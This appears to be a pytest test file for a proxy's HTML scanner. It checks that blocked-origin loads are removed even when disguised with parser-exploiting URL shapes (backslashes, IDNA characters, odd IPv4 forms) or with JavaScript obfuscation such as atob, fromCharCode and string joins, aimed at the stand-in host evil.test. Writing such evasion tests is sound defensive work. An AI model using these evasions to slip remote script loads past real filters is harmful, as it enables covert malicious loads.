"""URL shapes, markup and JavaScript that a browser reads as a load of a blocked origin.

A red team found three classes of misses, each a place where the scanner read a URL,
a tag or a string by its own rules instead of the browser's:

- URL shapes the WHATWG parser resolves to a blocked host: userinfo, backslashes,
  tab/newline inside the host or scheme (removed by the parser), characters IDNA maps
  away (soft hyphen, zero-width space), fullwidth dots and letters, percent-encoded
  hosts, IPv4 in hex/octal/short forms, trailing dots, a special scheme followed by
  at most one slash (``http:evil.example`` on an https page). Each is tried in every
  attribute the scanner judges and in the script sinks it treats as loads.
- JavaScript that builds the URL from literals: concatenation across comments,
  template literals with literal substitutions, ``[..].join()``, ``.concat()``,
  ``String.fromCharCode``, ``atob``, ``unescape``, ``decodeURIComponent``.

Every case first checks that ada (the WHATWG parser the proxy uses) resolves the URL
to the blocked host from the page, so a case that no browser would load fails here
instead of passing for nothing. The blocklist is a real compiled engine.
"""

from __future__ import annotations

import base64
import html as html_lib
import ipaddress
import json
from collections.abc import Callable

import ada_url
import pytest

from proxy_addons.core.engine import Engine, blocked_by
from proxy_addons.core.htmlscan import Finding, Scanner
from proxy_addons.core.model import ListSpec, RuleKind
from tests.addons.test_blocking import _rules

PAGE = "https://news.example/2026/12/page.html"
HOST = "evil.test"
IP = "217.107.218.147"

_ENGINE, _, _ = Engine.from_lists(
    [
        (
            ListSpec(name="malware", category="malware"),
            _rules((RuleKind.DOMAIN, HOST), (RuleKind.IP, IP)),
        )
    ]
)
IS_BLOCKED = blocked_by(_ENGINE)


def strip(body: str, *, fast_path: bool = True) -> tuple[bytes, list[Finding]]:
    scanner = Scanner(IS_BLOCKED, fast_path=fast_path)  # type: ignore[arg-type]
    return scanner.strip(body.encode(), PAGE, "text/html; charset=utf-8", comment=False)


def page(body: str) -> str:
    return f"<!doctype html><html><head><title>t</title></head><body>{body}</body></html>"


_N = int(ipaddress.IPv4Address(IP))
_A, _B, _C, _D = (int(x) for x in IP.split("."))

# URL shapes as the browser's parser receives them (after HTML or JS decoding).
SHAPES: dict[str, str] = {
    "userinfo": f"//good.example@{HOST}/x.js",
    "userinfo-password": f"http://a:b@{HOST}/x.js",
    "userinfo-space": f"http://us er@{HOST}/x.js",
    "backslashes": f"http:\\\\{HOST}\\x.js",
    "backslashes-relative": f"\\\\{HOST}/x.js",
    "slash-backslash": f"/\\{HOST}/x.js",
    "backslash-slash": f"\\/{HOST}/x.js",
    "scheme-slash-backslash": f"http:/\\{HOST}/x.js",
    "newline-in-host": "http://ev\nil.test/x.js",
    "tab-in-host": "http://evil.te\tst/x.js",
    "cr-in-host": "http://ev\ril.test/x.js",
    "newline-in-scheme": f"ht\ntp://{HOST}/x.js",
    "newline-relative": "//ev\nil.test/x.js",
    "soft-hyphen": "http://evil\u00ad.test/x.js",
    "soft-hyphen-tld": "http://evil.te\u00adst/x.js",
    "zero-width-space": "http://ev\u200bil.test/x.js",
    "word-joiner": "//ev\u2060il.test/x.js",
    "ideographic-dot": "http://evil\u3002test/x.js",
    "fullwidth-dot": "http://evil\uff0etest/x.js",
    "halfwidth-dot": "http://evil\uff61test/x.js",
    "fullwidth-letters": "http://\uff45\uff56\uff49\uff4c.test/x.js",
    "uppercase": "HTTP://EVIL.TEST/x.js",
    "percent-letter": "http://%65vil.test/x.js",
    "percent-dot": "http://evil%2etest/x.js",
    "ipv4-hex": f"http://{hex(_N)}/x.js",
    "ipv4-decimal": f"http://{_N}/x.js",
    "ipv4-octal": "http://" + ".".join(f"0{int(x):o}" for x in IP.split(".")) + "/x.js",
    "ipv4-short": f"http://{_A}.{(_B << 16) | (_C << 8) | _D}/x.js",
    "ipv4-hex-dotted": "http://" + ".".join(hex(int(x)) for x in IP.split(".")) + "/x.js",
    "trailing-dot": f"http://{HOST}./x.js",
    "ipv4-trailing-dot": f"http://{IP}./x.js",
    "scheme-no-slash": f"http:{HOST}/x.js",  # the page is https: an authority
    "scheme-one-slash": f"http:/{HOST}/x.js",
    "scheme-backslash": f"http:\\{HOST}/x.js",
}


def _blocked_host(url: str) -> bool:
    """Whether the browser's parser resolves ``url`` on PAGE to the blocked origin."""
    try:
        resolved = ada_url.join_url(PAGE, url.strip())
    except ValueError:
        return False
    return IS_BLOCKED(resolved) is not None


def test_every_shape_resolves_to_the_blocked_origin() -> None:
    # The cases are real: the parser a browser uses sends each to the blocked host.
    assert [name for name, url in SHAPES.items() if not _blocked_host(url)] == []


def js(url: str) -> str:
    """``url`` as a single-quoted JavaScript string literal (what the browser decodes)."""
    return "'" + json.dumps(url)[1:-1].replace("'", "\\'") + "'"


def attr(url: str) -> str:
    return '"' + html_lib.escape(url, quote=True) + '"'


# Where a URL loads: attributes the scanner judges, and script sinks that load.
CONTEXTS: dict[str, Callable[[str], str]] = {
    "script-src": lambda u: f"<script src={attr(u)}></script>",
    "iframe-src": lambda u: f"<iframe src={attr(u)}></iframe>",
    "object-data": lambda u: f"<object data={attr(u)}></object>",
    "embed-src": lambda u: f"<embed src={attr(u)}>",
    "meta-refresh": lambda u: f'<meta http-equiv="refresh" content={attr("0; url=" + u)}>',
    "svg-script-href": lambda u: f"<svg><script href={attr(u)}></script></svg>",
    "write": lambda u: (
        "<script>document.write('<script src=\"' + " + js(u) + " + '\"></scr' + 'ipt>')</script>"
    ),
    "write-whole": lambda u: (
        "<script>document.write("
        + js(f'<script src="{u}"></script>').replace("</", "<\\/")
        + ")</script>"
    ),
    "create-src": lambda u: (
        "<script>var s = document.createElement('script'); s.src = "
        + js(u)
        + "; document.head.appendChild(s)</script>"
    ),
    "import": lambda u: f"<script>import({js(u)})</script>",
    "location": lambda u: f"<script>location = {js(u)}</script>",
    "location-href": lambda u: f"<script>window.location.href = {js(u)}</script>",
    "window-open": lambda u: f"<script>window.open({js(u)})</script>",
    "set-attribute": lambda u: (
        f"<script>var f = document.createElement('iframe');f.setAttribute('src', {js(u)})</script>"
    ),
    "img-onerror": lambda u: f"<img src=x onerror={attr('location=' + js(u))}>",
}


@pytest.mark.parametrize("fast_path", [True, False], ids=["fast", "precise"])
@pytest.mark.parametrize("context", sorted(CONTEXTS))
@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_url_shapes_the_browser_resolves_are_removed(
    shape: str, context: str, fast_path: bool
) -> None:
    url = SHAPES[shape]
    if context in ("meta-refresh", "write", "write-whole") and ("'" in url or '"' in url):
        pytest.skip("a quote ends the attribute or the refresh URL")
    body = page("<p>kept</p>" + CONTEXTS[context](url))
    out, findings = strip(body, fast_path=fast_path)
    removed = [f for f in findings if f.removed]
    assert removed, (findings, body)
    assert b"kept" in out
    assert b"x.js" not in out, out


# ---- JavaScript that assembles the URL from literals


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


FOLDED = {
    "comment-in-concat": "'ht' + /* x */ 'tp://evil.test/a.js'",
    "comment-before-plus": "'http://ev' /* x */ + 'il.test/a.js'",
    "line-comment-in-concat": "'http://ev' + // x\n 'il.test/a.js'",
    "template-literal-part": "`http://${'evil'}.${\"test\"}/a.js`",
    "array-join": "['http://evil', 'test/a.js'].join('.')",
    "array-join-default": "['http://evil.test/a', 'js'].join()",
    "concat": "'http://'.concat('evil', '.test', '/a.js')",
    "from-char-code": "'http://' + String.fromCharCode(101, 118, 105, 108) + '.test/a.js'",
    "from-char-code-hex": "String.fromCharCode(0x68,0x74,0x74,0x70) + '://evil.test/a.js'",
    "atob-short": f"atob('{_b64('//evil.test')}') + '/a.js'",
    "atob": f"atob('{_b64('http://evil.test/a.js')}')",
    "unescape": "unescape('%68%74%74%70%3a%2f%2f%65%76%69%6c%2e%74%65%73%74/a.js')",
    "decode-uri-component": "decodeURIComponent('http%3A%2F%2Fevil%2Etest%2Fa.js')",
    "hex-escapes": "'\\x68ttp://\\x65vil.test/a.js'",
    "unicode-escapes": "'http://\\u0065vil\\u002etest/a.js'",
    "octal-escapes": "'http://evil\\56test/a.js'",
    "nested": "['ht', 'tp://'].join('').concat(['evil', 'test'].join('.')) + '/a.js'",
    "join-then-concat-escaped": "['\\x68ttp://ev', 'il.te' + 'st'].join('') + '/a.js'",
}
FOLD_SINKS: dict[str, Callable[[str], str]] = {
    "create-src": lambda e: (
        "var s = document.createElement('script'); s.src = " + e + "; document.head.appendChild(s)"
    ),
    "location": lambda e: f"location.href = {e}",
    "import": lambda e: f"import({e})",
    "write": lambda e: f"document.write('<script src=' + {e} + '></scr' + 'ipt>')",
}


@pytest.mark.parametrize("fast_path", [True, False], ids=["fast", "precise"])
@pytest.mark.parametrize("sink", sorted(FOLD_SINKS))
@pytest.mark.parametrize("name", sorted(FOLDED))
def test_urls_built_from_literals_are_read(name: str, sink: str, fast_path: bool) -> None:
    body = page("<p>kept</p><script>" + FOLD_SINKS[sink](FOLDED[name]) + "</script>")
    out, findings = strip(body, fast_path=fast_path)
    assert [f.removed for f in findings] == [True], findings
    assert b"a.js" not in out


@pytest.mark.parametrize("name", sorted(FOLDED))
def test_folded_urls_held_as_data_are_mentions(name: str) -> None:
    # Folding reads the URL; it does not make data a load: no sink, no removal.
    body = page(f"<script>var iocs = [{FOLDED[name]}]; list.textContent = iocs[0];</script>")
    out, findings = strip(body)
    assert out == body.encode(), findings
    assert [(f.reason, f.removed) for f in findings] == [("mention", False)], findings


# ---- a constant prefix whose origin the parser decides later


@pytest.mark.parametrize(
    "code",
    [
        # "/" + "/evil.test/c" is "//evil.test/c": a lone slash is no path yet
        "var h = '/evil.test/c'; new Image().src = '/' + h;",
        # the parser removes the tab: "//evil." + tld
        "var t = 'test'; new Image().src = '/\\t/evil.' + t + '/c';",
        "var t = 'test'; new Image().src = '\\\\\\n\\\\evil.' + t + '/c';",
    ],
    ids=["lone-slash", "tab-slash", "newline-backslash"],
)
def test_a_prefix_whose_origin_is_decided_at_run_time_is_a_load(code: str) -> None:
    body = page(f"<script>var ioc = 'evil.test'; {code}</script>")
    out, findings = strip(body)
    assert [f.removed for f in findings] == [True], findings


def test_a_relative_path_prefix_stays_a_mention() -> None:
    body = page("<script>var ioc = 'evil.test'; new Image().src = '/api/' + ioc;</script>")
    out, findings = strip(body)
    assert out == body.encode()
    assert [(f.reason, f.removed) for f in findings] == [("mention", False)]


@pytest.mark.parametrize(
    "script",
    [
        "var contact = 'abuse@evil.test'; el.textContent = contact;",
        # an address after a URL, and a load of a URL computed at run time
        "var home = 'https://news.example', contact = 'abuse@evil.test';"
        "fetch(home + path).then(show);",
    ],
)
def test_an_email_address_is_no_reference(script: str) -> None:
    body = page(f"<script>{script}</script>")
    out, findings = strip(body)
    assert out == body.encode()
    assert findings == []


@pytest.mark.parametrize("fast_path", [True, False], ids=["fast", "precise"])
@pytest.mark.parametrize(
    "code",
    [
        "location.hostname = 'evil.test'",
        "window.location.host = 'evil.test:8080'",
        "document.location['host'] = 'ev' + 'il.test'",
        "location.host = ['evil', 'test'].join('.')",
    ],
)
def test_setting_the_host_of_location_is_a_load(code: str, fast_path: bool) -> None:
    out, findings = strip(page(f"<script>{code}</script>"), fast_path=fast_path)
    assert [f.removed for f in findings] == [True], findings


def test_reading_a_host_is_no_load() -> None:
    body = page("<script>var a = new URL(u); if (a.hostname === 'evil.test') warn();</script>")
    out, findings = strip(body)
    assert out == body.encode()
    assert [(f.reason, f.removed) for f in findings] == [("mention", False)]
